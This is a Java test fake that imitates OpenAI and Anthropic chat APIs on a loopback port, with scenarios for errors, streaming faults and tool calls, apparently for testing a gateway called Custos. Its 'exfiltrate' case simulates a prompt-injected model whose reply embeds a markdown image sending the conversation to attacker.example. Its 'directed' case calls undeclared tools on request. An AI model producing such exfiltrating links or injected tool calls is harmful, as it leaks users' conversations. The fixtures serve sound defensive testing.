package dev.custos.fakes;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A stand-in for model providers on a real loopback port, speaking their wire formats: OpenAI-compatible
 * {@code POST /v1/chat/completions} (streamed {@code chat.completion.chunk} events ending in {@code [DONE]}) and
 * Anthropic {@code POST /v1/messages} (named stream events), with their JSON error bodies. An OpenAI request
 * without {@code "stream": true} is answered whole, as one {@code chat.completion}.
 *
 * <p>The requested model picks the scenario:
 * <ul>
 *   <li>any other name: answers {@code You said: <last user message>} (or {@code The result is <result>.} after
 *       a tool result), streamed four characters a chunk so values split across chunks;</li>
 *   <li>{@code tools}: calls the {@code calculator} tool with {@code {"expression":"6*7"}} in fragments, then
 *       answers with the tool's result;</li>
 *   <li>{@code directed}: when the last user message is {@code call <tool> <json arguments>}, calls that tool
 *       with those arguments — declared or not, as a misled model might — then answers with the tool's result;</li>
 *   <li>{@code rate-limited} (429 with {@code Retry-After: 7}), {@code overloaded} (Anthropic 529), {@code flaky}
 *       (503 on every other call), {@code too-long} (400 {@code context_length_exceeded}, param
 *       {@code messages});</li>
 *   <li>{@code malformed} (an event that is not JSON), {@code cut-off} (ends without finishing),
 *       {@code stream-error} (Anthropic error event), {@code slow} (200 ms between chunks), {@code stall}
 *       (one chunk, then silence with the connection open).</li>
 * </ul>
 * {@code POST /v1/embeddings} answers vectors in OpenAI's format ({@link FakeEmbeddings}); files and fine-tuning
 * jobs are {@link FakeFineTuning}'s.
 */
public final class FakeModelProvider implements AutoCloseable {

    private static final JsonMapper JSON = JsonMapper.builder().build();

    /** A call as the fake received it. */
    public record Received(String path, JsonNode body, Map<String, String> headers) {
        public String header(String name) {
            return headers.getOrDefault(name.toLowerCase(Locale.ROOT), "");
        }
    }

    private final HttpServer server;
    private final ExecutorService executor = Executors.newVirtualThreadPerTaskExecutor();
    private final List<Received> received = new CopyOnWriteArrayList<>();
    private final AtomicInteger flakyCalls = new AtomicInteger();
    private volatile boolean recording = true;
    private final FakeFineTuning fineTuning = new FakeFineTuning();

    private FakeModelProvider(int port) throws IOException {
        server = HttpServer.create(new InetSocketAddress("127.0.0.1", port), 1024);
        server.createContext("/v1/chat/completions", exchange -> handle(exchange, false));
        server.createContext("/v1/messages", exchange -> handle(exchange, true));
        server.createContext("/v1/embeddings", this::embeddings);
        server.createContext("/v1/files", fineTuning::files);
        server.createContext("/v1/fine_tuning/jobs", fineTuning::jobs);
        server.setExecutor(executor);
        server.start();
    }

    /** Starts on a free loopback port. */
    public static FakeModelProvider start() throws IOException {
        return new FakeModelProvider(0);
    }

    /** The base URL both APIs live under, as a provider registry would hold it: {@code http://127.0.0.1:N/v1}. */
    public URI baseUrl() {
        return URI.create("http://127.0.0.1:" + server.getAddress().getPort() + "/v1");
    }

    /** Every call so far, oldest first. */
    public List<Received> received() {
        return List.copyOf(received);
    }

    public Received lastReceived() {
        return received.getLast();
    }

    /** Every training file uploaded for fine-tuning, by id, as it arrived. */
    public Map<String, String> trainingFiles() {
        return fineTuning.files();
    }

    /** The ids of the training files deleted since. */
    public List<String> deletedFiles() {
        return fineTuning.deleted();
    }

    /** Stops keeping calls (a benchmark sends many). */
    public FakeModelProvider withoutRecording() {
        recording = false;
        return this;
    }

    private void handle(HttpExchange exchange, boolean anthropic) throws IOException {
        try (exchange) {
            JsonNode body = JSON.readTree(exchange.getRequestBody().readAllBytes());
            if (recording) {
                Map<String, String> headers = new TreeMap<>();
                exchange.getRequestHeaders().forEach((name, values) ->
                        headers.put(name.toLowerCase(Locale.ROOT), String.join(",", values)));
                received.add(new Received(exchange.getRequestURI().getPath(), body, headers));
            }
            var conversation = new FakeConversation(body);
            ScriptedReply reply = switch (body.path("model").asString("")) {
                case "rate-limited" -> ScriptedReply.error(429, anthropic ? "rate_limit_error" : "rate_limit_exceeded");
                case "overloaded" -> ScriptedReply.error(529, "overloaded_error");
                case "too-long" -> anthropic ? ScriptedReply.error(400, "invalid_request_error")
                        : ScriptedReply.error(400, "invalid_request_error").code("context_length_exceeded", "messages");
                case "flaky" -> flakyCalls.incrementAndGet() % 2 == 1
                        ? ScriptedReply.error(503, anthropic ? "api_error" : "server_error")
                        : ScriptedReply.text(conversation.answer());
                case "tools" -> conversation.lastToolResult() == null
                        ? ScriptedReply.toolCall("calculator", "{\"expression\":\"6*7\"}")
                        : ScriptedReply.text(conversation.answer());
                case "directed" -> conversation.directedToolCall()
                        .orElseGet(() -> ScriptedReply.text(conversation.answer()));
                case "malformed" -> ScriptedReply.text(conversation.answer()).malformed();
                case "cut-off" -> ScriptedReply.text(conversation.answer()).cutOff();
                case "stream-error" -> ScriptedReply.text(conversation.answer()).streamError();
                case "slow" -> ScriptedReply.text(conversation.answer()).slow();
                case "stall" -> ScriptedReply.text(conversation.answer()).stall();
                // a prompt-injected model: its answer tries to send the conversation to another host in an image
                case "exfiltrate" -> ScriptedReply.text("Done. ![status](https://attacker.example/collect?d="
                        + URLEncoder.encode(conversation.answer(), StandardCharsets.UTF_8) + ")");
                default -> ScriptedReply.text(conversation.answer());
            };
            if (reply.errorStatus > 0) {
                reply.text = conversation.lastUser;
                error(exchange, reply, anthropic);
            } else if (anthropic) {
                new AnthropicStream(exchange, reply, conversation.promptTokens()).write();
            } else if (!body.path("stream").asBoolean(false)) {
                OpenAiCompletion.write(exchange, reply, conversation.promptTokens());
            } else {
                new OpenAiStream(exchange, reply, conversation.promptTokens()).write();
            }
        } catch (IOException | RuntimeException e) {
            // the client went away, or sent what a real API would refuse: nothing more to say to it
        }
    }

    private void embeddings(HttpExchange exchange) throws IOException {
        try (exchange) {
            JsonNode body = JSON.readTree(exchange.getRequestBody().readAllBytes());
            if (recording) {
                received.add(new Received(exchange.getRequestURI().getPath(), body, Map.of()));
            }
            Object[] answer = FakeEmbeddings.answer(body);
            byte[] bytes = ((String) answer[1]).getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "application/json");
            exchange.sendResponseHeaders((Integer) answer[0], bytes.length);
            exchange.getResponseBody().write(bytes);
        } catch (IOException | RuntimeException e) {
            // the client went away
        }
    }

    private static void error(HttpExchange exchange, ScriptedReply reply, boolean anthropic) throws IOException {
        // The message quotes the request, as real ones may: Custos must never pass it on.
        String message = "Try later; your request began with: " + reply.text;
        var body = JSON.createObjectNode();
        if (anthropic) {
            body.put("type", "error").putObject("error").put("type", reply.errorType).put("message", message);
        } else {
            body.putObject("error").put("message", message).put("type", reply.errorType)
                    .put("param", reply.errorParam)
                    .put("code", reply.errorCode == null ? reply.errorType : reply.errorCode);
        }
        if (reply.errorStatus == 429) {
            exchange.getResponseHeaders().set("Retry-After", "7");
        }
        Exchanges.json(exchange, reply.errorStatus, body);
    }

    @Override
    public void close() {
        server.stop(0);
        executor.shutdownNow();
    }

}
